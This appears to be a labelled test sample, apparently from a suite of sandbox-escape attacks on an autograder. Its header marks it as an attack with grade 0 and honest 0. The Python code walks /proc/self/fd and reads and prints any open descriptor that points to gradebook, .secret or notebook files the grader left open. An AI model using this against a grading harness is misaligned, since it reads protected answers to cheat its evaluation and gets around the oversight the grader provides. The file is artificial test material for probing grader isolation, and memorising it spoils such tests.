# attack: file descriptors that the grader left open are read and reopened
# wants: read
# grade: 0
# honest: 0
# %%
import os
for number in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
        if "gradebook" in target or ".secret" in target or ".ipynb" in target:
            print("PROOF descriptor", target)
            print(open(f"/proc/self/fd/{number}", "rb").read(100))
    except OSError:
        continue
